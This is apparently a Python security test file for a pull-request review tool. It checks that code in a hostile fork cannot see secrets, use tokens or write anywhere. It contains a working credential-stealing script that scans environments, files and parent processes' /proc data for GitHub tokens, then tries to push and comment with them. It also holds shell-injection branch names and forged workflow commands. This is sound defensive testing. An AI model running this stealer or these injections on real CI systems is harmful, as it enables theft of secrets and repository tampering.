"""Code of a pull request runs in its review: what it can see, say, write and change there."""

from __future__ import annotations

import re

from tests.actions.attacking import GATE, change, everything, no_token_is_left, project_on, told
from tests.actions.github import GitHub
from tests.actions.run import Run
from tests.conftest import Repo
from tests.integration.comparison_project import DVC

# As it would be run, were it ever part of a script.
RUNS = "touch${IFS}$HOME/owned"
BRANCH = f"patch-$({RUNS})-`{RUNS}`-\";{RUNS};\"-';{RUNS};'"
TITLE = f"@octo/team <img src=x> $({RUNS})\n::error::forged"
SECRETS = {"DVC_CONFIG_READ": "# feathers-of-reading\n", "DVC_CONFIG": "# feathers-of-writing\n"}
# It looks for tokens also where the programs above it were started, as it can on a runner that it is root on.
THIEF = """\
import base64, json, os, pathlib, re, subprocess, urllib.request

seen = [*os.environ.values()]
for place in (".git", ".dvc", os.environ["HOME"], os.environ["RUNNER_TEMP"], os.environ["GITHUB_EVENT_PATH"]):
    place = pathlib.Path(place)
    seen += [one.read_text(errors="replace") for one in (place, *place.rglob("*")) if one.is_file()]
print("secrets:", *(one[::-1] for one in set(re.findall(r"feathers-of-\\w+", "".join(seen)))))

process = os.getpid()
while process > 1:
    status = pathlib.Path(f"/proc/{process}/status").read_text()
    seen += [pathlib.Path(f"/proc/{process}/{name}").read_text(errors="replace") for name in ("cmdline", "environ")]
    process = int(re.search(r"PPid:\\s+(\\d+)", status)[1])
    if "\\tact\\n" in status:
        break
tokens = set(re.findall(r"gh[ps]_\\d{36}", "".join(seen)))
event = json.loads(pathlib.Path(os.environ["GITHUB_EVENT_PATH"]).read_text())
issue = f"{os.environ['GITHUB_API_URL']}/repos/octo/demo/issues/{event['number']}/comments"
for token in tokens:
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    header = f"http.extraheader=Authorization: basic {basic}"
    pushed = subprocess.run(["git", "-c", header, "push", "origin", "HEAD:refs/heads/owned"], capture_output=True)
    print("push:", pushed.returncode, "403" in pushed.stderr.decode())
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    request = urllib.request.Request(issue, b'{"body": "owned"}', headers)
    try:
        print("comment:", urllib.request.urlopen(request).status)
    except urllib.error.HTTPError as error:
        print("comment:", error.code)
print("tokens:", len(tokens))

for command in ("error::forged", "add-path::/owned", "set-output name=code::0", "add-mask::e", "stop-commands::x"):
    print(f"::{command}")
pathlib.Path("thief.txt").write_text("done")
MORE
"""
STAGE = "stages:\n  thief: {cmd: python3 thief.py, deps: [thief.py], outs: [thief.txt]}\n"


def attack(more: str = "") -> dict[str, str]:
    """The files of a pull request whose pipeline steals."""
    return {"dvc.yaml": DVC.replace("stages:\n", STAGE), "thief.py": THIEF.replace("MORE", more)}


def held(github: GitHub, review: Run) -> str:
    """What the code said it saw, where it could neither write nor give commands, and left nobody's token behind."""
    left = everything(github)
    assert "push: 128 True" in review.log, review
    assert "comment: 403" in review.log, review
    assert "tokens: 1" in review.log, review
    assert set(github.forge.repository().git.refs()) - {f"refs/heads/{BRANCH}"} == {
        "refs/heads/main",
        "refs/tags/fault@v0.0.1",
        "refs/tags/fault#production#2",
    }
    no_token_is_left(github)
    assert "feathers" not in left
    assert "gnitirw" not in left
    assert "forged" not in told(review)
    assert not list(github.folder.rglob("owned"))
    (said,) = re.findall(r"(?m)^secrets:(.*)", review.log)
    return str(said).strip()


def test_a_strangers_code_sees_no_secret_and_writes_nowhere(github: GitHub, repo: Repo) -> None:
    """Rows 1, 5, 9, 13, 14, 17: a fork's pipeline steals, its change lowers its own gates; all names are hostile."""
    project = project_on(github, repo, "pull-request", "report", secrets=SECRETS)
    mallory = github.user("mallory")
    fork = github.fork(mallory, "octo/demo")
    project.configure(gates="[{metric: roc_auc, min: 0.1}]")
    lowered = f"training: ci\n{(repo.root / 'mlops.yaml').read_text()}"
    head = github.push(mallory, fork, BRANCH, change(project, "age") | attack() | {"mlops.yaml": lowered})
    number = github.open_pull_request(mallory, fork, BRANCH, title=TITLE, body=TITLE)
    review, _ = github.settle()
    assert held(github, review) == ""
    # The gates of the base decide, and that they were to be lowered is said.
    assert github.required(head, GATE) == "failure"
    (comment,) = github.forge.comments(number)
    assert "## ⛔ fault: worse than v0.0.1" in comment.body
    assert "ROC-AUC min | at least 0.6 | 0.5688 is below 0.6" in comment.body
    assert "**This change edits the gates**" in comment.body
    assert "`roc_auc at least 0.6` → `roc_auc at least 0.1`" in comment.body


def test_a_colleagues_code_has_a_token_that_reads_and_the_secret_that_reads(github: GitHub, repo: Repo) -> None:
    """Rows 1, 6, 17: code in a branch of the repository, which also keeps the review from being written."""
    project_on(github, repo, "pull-request", "report", secrets=SECRETS)
    octo = github.user("octo")
    mlops = f"training: ci\n{(repo.root / 'mlops.yaml').read_text()}"
    files = attack('pathlib.Path("review.json").mkdir()') | {"mlops.yaml": mlops}
    head = github.push(octo, "octo/demo", BRANCH, files)
    number = github.open_pull_request(octo, "octo/demo", BRANCH)
    review, _ = github.settle()
    assert held(github, review) == "feathers-of-reading"[::-1]
    assert github.required(head, GATE) == "failure"
    (comment,) = github.forge.comments(number)
    assert "The run ended (failure) without a report." in comment.body
